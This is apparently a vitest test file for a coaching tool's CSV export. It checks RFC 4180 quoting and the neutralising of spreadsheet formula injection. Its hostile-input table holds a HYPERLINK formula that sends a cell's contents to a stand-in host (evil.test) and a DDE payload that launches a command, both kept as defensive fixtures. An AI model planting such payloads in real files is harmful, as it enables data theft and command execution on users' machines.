/**
 * @file The team CSV (src/coaching/report-csv.ts): RFC 4180 (CRLF, quotes doubled, fields with a comma, quote, CR or
 * LF quoted), OWASP's CSV injection neutralised in every text cell (a leading =, +, -, @, tab, CR or LF gets a single
 * quote and quotes), numbers left numeric (a change of -5 is the number -5), a UTF-8 byte order mark, and every cell
 * read back by a strict RFC 4180 reader (test/helpers/csv-reader.ts), for hostile names and for any string.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readTranslation } from '../../src/cli/locale';
import { BOM, csvCell, sessionsCsv, teamCsv, textCell } from '../../src/coaching/report-csv';
import { colleague, session } from '../helpers/coaching';
import { readCsv, readCsvValues } from '../helpers/csv-reader';
import { colleagueRow } from '../helpers/report-figures';

/** The text cells OWASP says a spreadsheet may read as a formula, and those this writer also treats so. */
const isFormulaLike = (text: string) => /^(?:[\t\r\n]|[ \u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(text);

const HOSTILE: [name: string, written: string][] = [
  ['Ada Vermeulen', 'Ada Vermeulen'],
  ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")"`],
  ['=1+1', `"'=1+1"`],
  ['+1', `"'+1"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['  =1', `"'  =1"`],
  ['\uff1d1+1', `"'\uff1d1+1"`],
  ['=cmd|\' /C calc\'!A0', `"'=cmd|' /C calc'!A0"`],
  ['Ada "Ace" Vermeulen', '"Ada ""Ace"" Vermeulen"'],
  ['"', '""""'],
  ['Vermeulen, Ada', '"Vermeulen, Ada"'],
  ['Ada\nVermeulen', '"Ada\nVermeulen"'],
  ['Ada\r\nVermeulen', '"Ada\r\nVermeulen"'],
  ['Ada\rVermeulen', '"Ada\rVermeulen"'],
  ['مريم الحداد', 'مريم الحداد'],
  ['Zoë 🚀 Ünal', 'Zoë 🚀 Ünal'],
  ['<script>alert(1)</script>', '<script>alert(1)</script>'],
  ["'already quoted", "'already quoted"],
  ['a=b-c', 'a=b-c'],
  ['Jean-Luc @ Nordlicht', 'Jean-Luc @ Nordlicht'],
  ['', ''],
];

describe('a text cell', () => {
  it.each(HOSTILE)('writes %j as %j', (name, written) => {
    expect(textCell(name)).toBe(written);
  });

  it('is neutralised exactly when it could be read as a formula', () => {
    for (const [name, written] of HOSTILE) expect(written.startsWith(`"'`), JSON.stringify(name)).toBe(isFormulaLike(name));
  });
});

describe('a number cell', () => {
  it('stays numeric: a negative change is a number, not text to neutralise', () => {
    expect([csvCell(-5), csvCell(0), csvCell(12), csvCell(35.5), csvCell(-0), csvCell(null)]).toEqual(['-5', '0', '12', '35.5', '0', '']);
    // The same characters as text are neutralised: the type decides, not the look.
    expect(csvCell('-5')).toBe(`"'-5"`);
  });

  it('is empty when it is not a finite number', () => {
    expect([csvCell(Number.NaN), csvCell(Number.POSITIVE_INFINITY)]).toEqual(['', '']);
  });
});

describe('the team CSV', () => {
  const rows = HOSTILE.map(([name], index) =>
    colleagueRow({ id: `c${index}`, name, sessions: index, change: index % 3 === 0 ? -5 : index % 3 === 1 ? null : 7 }),
  );

  it('starts with a UTF-8 byte order mark and ends every record with CRLF', () => {
    const csv = teamCsv(rows);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quotes, every line break is a CRLF (the reader throws on a bare CR or LF).
    expect(readCsv(csv.slice(1))).toHaveLength(rows.length + 1);
  });

  it('reads back, cell by cell: each name as written (a formula-like one with its single quote), numbers as numbers', () => {
    const records = readCsv(teamCsv(rows).slice(1));
    expect(records[0]?.map((field) => field.value)).toEqual([
      'Name',
      'Sessions',
      'Latest session',
      'Site',
      'Latest score',
      'Change since the previous session',
      'Stage',
      'Next stage undecided (unread)',
      'Onboarded',
      'Overdue actions',
    ]);
    records.slice(1).forEach((record, index) => {
      const row = rows[index] as (typeof rows)[number];
      expect(record.map((field) => field.value)).toEqual([
        isFormulaLike(row.name) ? `'${row.name}` : row.name,
        String(row.sessions),
        '2026-03-10',
        'LinkedIn',
        '70',
        row.change === null ? '' : String(row.change),
        'Safe profile',
        'no',
        'yes',
        '0',
      ]);
      // Numbers are never quoted, so a spreadsheet reads them as numbers.
      expect([1, 4, 5, 9].map((column) => record[column]?.quoted)).toEqual([false, false, false, false]);
    });
  });

  it('leaves no text cell that starts like a formula, and writes -5 unquoted as a number', () => {
    const csv = teamCsv(rows).slice(1);
    for (const record of readCsv(csv)) {
      for (const field of record) {
        if (field.quoted || !/^-?\d+(\.\d+)?$/.test(field.value)) expect(isFormulaLike(field.value), JSON.stringify(field.value)).toBe(false);
      }
    }
    expect(csv).toContain(',-5,');
  });

  it('writes a colleague without a session with empty cells, and the stage words of the record', () => {
    const csv = teamCsv([
      colleagueRow({ name: 'Bo', sessions: 0, latest: null, stage: { reached: null, unsure: true }, onboarded: false, overdueActions: 2 }),
      colleagueRow({ name: 'Cy', latest: { at: '2026-03-09T12:00:00.000Z', site: 'x', overall: null }, stage: { reached: 'speaking', unsure: false } }),
    ]);
    expect(readCsvValues(csv.slice(1)).slice(1)).toEqual([
      ['Bo', '0', '', '', '', '', 'none', 'yes', 'no', '2'],
      ['Cy', '1', '2026-03-09', 'X', '', '', 'Speaks for the company', 'no', 'yes', '0'],
    ]);
  });

  it('words its headers and words in the language given (the dashboard’s browser.i18n, the command line’s locale file)', () => {
    const values = readCsvValues(teamCsv([colleagueRow()], readTranslation('fr')).slice(1));
    expect(values[0]?.slice(0, 3)).toEqual(['Nom', 'Séances', 'Dernière séance']);
    expect(values[1]?.slice(6)).toEqual(['Profil sûr', 'non', 'oui', '0']);
    const de = readCsvValues(teamCsv([colleagueRow()], readTranslation('de')).slice(1));
    expect(de[0]?.[0]).toBe('Name');
    expect(de[0]?.[9]).toBe('Überfällige Maßnahmen');
  });

  it('neutralises a header too, should a translation start like a formula', () => {
    const csv = teamCsv([], (key) => (key === 'report_colName' ? '=Name' : undefined));
    expect(csv.slice(1).split('\r\n')[0]?.startsWith(`"'=Name",Sessions`)).toBe(true);
  });

  it('reads back any name, whatever it holds', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme', maxLength: 12 }), { maxLength: 6 }), fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { maxLength: 6 }), (names, binary) => {
        const all = [...names, ...binary];
        const records = readCsvValues(teamCsv(all.map((name) => colleagueRow({ name, change: -3 })), undefined).slice(1));
        expect(records.slice(1).map((record) => record[0])).toEqual(all.map((name) => (isFormulaLike(name) ? `'${name}` : name)));
        expect(records.slice(1).every((record) => record.length === 10 && record[5] === '-3')).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe('the sessions CSV', () => {
  const ada = colleague({ id: 'c1', name: '=Ada' });
  const bo = colleague({ id: 'c2', name: 'Bo, "the" Builder' });
  const adaSessions = [
    session('s2', '2026-03-10T12:00:00.000Z', [], {
      site: 'x',
      guidelines: { name: '@Nordlicht · Winter 2026-27', fingerprint: 'fp-2' },
      score: { overall: 71, steps: { 'clean-up': null, 'plan-ahead': 80, 'team-up': -1, guidelines: 60 } },
      notes: [{ text: 'Memo: =private remark about Ada', forColleague: false }],
      actions: [{ id: 'a1', ruleId: 'profile-photo', text: 'Secret action words', due: '2026-04-01' }],
    }),
    session('s1', '2026-02-10T12:00:00.000Z', [], { score: { overall: null, steps: { 'clean-up': null, 'plan-ahead': null, 'team-up': null, guidelines: null } } }),
  ];
  const records = [
    { colleague: ada, sessions: adaSessions },
    { colleague: bo, sessions: [session('s3', '2026-01-05T12:00:00.000Z', [], { colleagueId: 'c2' })] },
  ];

  it('writes one row per session, colleagues in the order given and sessions oldest first, with each step’s score', () => {
    expect(readCsvValues(sessionsCsv(records).slice(1))).toEqual([
      ['Name', 'Date', 'Site', 'Guidelines', 'Overall score', 'Score: Clean up', 'Score: Plan ahead', 'Score: Team up', 'Score: Guidelines'],
      ["'=Ada", '2026-02-10', 'LinkedIn', 'Nordlicht Analytics · Winter 2026-27', '', '', '', '', ''],
      ["'=Ada", '2026-03-10', 'X', "'@Nordlicht · Winter 2026-27", '71', '', '80', '-1', '60'],
      ['Bo, "the" Builder', '2026-01-05', 'LinkedIn', 'Nordlicht Analytics · Winter 2026-27', '60', '', '50', '70', '60'],
    ]);
  });

  it('leaves the notes and the agreed actions’ words out', () => {
    const csv = sessionsCsv(records);
    expect(csv).not.toContain('Memo');
    expect(csv).not.toContain('private');
    expect(csv).not.toContain('Secret');
  });

  it('is a header alone without sessions', () => {
    expect(readCsvValues(sessionsCsv([{ colleague: ada, sessions: [] }]).slice(1))).toHaveLength(1);
  });
});

describe('the test reader itself', () => {
  it('refuses CSV that bends RFC 4180', () => {
    for (const bad of ['a,b\n', 'a,"b\r\n', 'a,b"c\r\n', '"a"b\r\n', 'a,b']) expect(() => readCsv(bad), JSON.stringify(bad)).toThrow();
    expect(readCsvValues('a,"b,""c""\r\nd"\r\n,\r\n')).toEqual([['a', 'b,"c"\r\nd'], ['', '']]);
  });
});
